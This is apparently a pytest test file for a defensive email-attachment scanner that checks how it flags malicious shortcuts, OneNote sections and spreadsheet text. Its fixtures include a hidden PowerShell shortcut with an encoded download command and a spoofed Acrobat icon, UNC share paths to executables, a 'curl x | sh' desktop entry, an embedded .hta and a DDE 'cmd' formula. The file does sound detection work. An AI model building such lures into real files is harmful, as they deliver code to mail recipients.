"""Shortcuts to programs and pages, and OneNote sections."""

from __future__ import annotations

import base64
import plistlib
import struct

import pytest
from tests.collect.files.papers import LURE, budget, detail, lnk, names, urls

from mailrisk.collect.files import lnk as shortcut
from mailrisk.collect.files import onenote, sheet_text, url_shortcut, xmlfile
from mailrisk.model.errors import BadInput

POWERSHELL = "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
READER = "C:\\Program Files\\Adobe\\Acrobat\\AcroRd32.exe"


def test_an_encoded_command_is_decoded_once() -> None:
    encoded = base64.b64encode(f"iwr {LURE}".encode("utf-16-le")).decode()
    found = shortcut.read(lnk(f"-w hidden -enc {encoded}", target=POWERSHELL, icon=READER), budget())
    assert detail(found, "encoded-command") == f"iwr {LURE}"
    assert detail(found, "starts-interpreter") == "powershell.exe"
    assert detail(found, "icon-mimics") == READER
    assert urls(found) == [LURE]


def test_a_shortcut_to_a_document_is_only_told() -> None:
    found = shortcut.read(lnk(target="C:\\Users\\a\\report.docx"), budget())
    assert names(found) == {"command"}


def test_a_program_with_its_own_icon_mimics_nothing() -> None:
    assert names(shortcut.read(lnk("/p", target=READER, icon=READER), budget())) == {
        "command",
        "starts-program",
    }


def test_a_shortcut_into_a_share_is_told() -> None:
    found = shortcut.read(lnk(target="\\\\198.51.100.9\\a\\b.exe"), budget())
    assert names(found) == {"command", "starts-program", "unc-path"}


def test_a_shortcut_that_ends_early_says_so() -> None:
    found = shortcut.read(lnk("-x", target=POWERSHELL)[:80], budget())
    assert found.defects == ("a part runs past the end of the shortcut",)


def test_other_bytes_are_no_shortcut() -> None:
    with pytest.raises(BadInput):
        shortcut.read(b"L\0\0\0", budget())


def test_web_shortcuts_of_all_systems_are_read() -> None:
    windows = b"[InternetShortcut]\r\nURL=" + LURE.encode() + b"\r\nIconFile=\\\\198.51.100.9\\i.ico\r\n"
    mac = plistlib.dumps({"URL": LURE})
    desktop = b"[Desktop Entry]\nType=Link\nURL=" + LURE.encode()
    query = b"WEB\r\n1\r\n" + LURE.encode()
    for data in (windows, mac, plistlib.dumps({"URL": LURE}, fmt=plistlib.FMT_BINARY), desktop, query):
        assert urls(url_shortcut.read(data, budget())) == [LURE]
    assert "unc-path" in names(url_shortcut.read(windows, budget()))
    assert urls(xmlfile.read(mac, budget())) == [LURE]


def test_a_web_shortcut_to_a_program_on_a_share_is_told() -> None:
    found = url_shortcut.read(b"[InternetShortcut]\nURL=file://198.51.100.9/s/a.exe\n", budget())
    assert names(found) == {"web-shortcut", "starts-program", "unc-path"}


def test_a_desktop_entry_that_runs_something_is_told() -> None:
    found = url_shortcut.read(b"[Desktop Entry]\nExec=sh -c 'curl x | sh'\n", budget())
    assert names(found) == {"command", "starts-program"}


@pytest.mark.parametrize("data", [b"", b"URL=http://a.example/", plistlib.dumps([1]), b"<plist><broken"])
def test_what_is_no_shortcut_is_refused(data: bytes) -> None:
    with pytest.raises(BadInput):
        url_shortcut.read(data, budget())


def section(*files: tuple[str, bytes]) -> bytes:
    """A OneNote section that stores these files."""
    out = onenote.MAGIC + b"\0" * 200
    for name, content in files:
        out += name.encode("utf-16-le") + b"\0\0\0\0"
        out += onenote._STORED + struct.pack("<QIQ", len(content), 0, 0) + content
    return out


def test_programs_in_a_section_are_told_and_go_on_as_members() -> None:
    found = onenote.read(
        section(("open.hta", b"<script>x</script>"), ("p.png", b"\x89PNG\r\n\x1a\n")), budget()
    )
    assert detail(found, "embedded-program") == "open.hta"
    assert [(member.name, member.data) for member in found.members] == [("open.hta", b"<script>x</script>")]
    assert len(found.pictures) == 1


def test_a_stored_file_that_is_longer_than_its_section_is_a_defect() -> None:
    data = onenote.MAGIC + onenote._STORED + struct.pack("<QIQ", 1 << 60, 0, 0) + b"x"
    assert onenote.read(data, budget()).defects == ("embedded file 1 is longer than the section",)


def test_text_of_a_section_is_read() -> None:
    found = onenote.read(section() + f"Double click to view {LURE}".encode("utf-16-le"), budget())
    assert LURE in urls(found)


def test_a_table_that_starts_a_program_is_told() -> None:
    data = b'name,sum\n"=cmd|\'/c calc\'!A0",1\n=HYPERLINK("https://a.example/x"),2\n'
    found = sheet_text.read(data, budget())
    assert (names(found), set(urls(found))) == ({"dde"}, {"https://a.example/x"})
    assert not sheet_text.read(b"a|b!\n1,2\n", budget()).traits
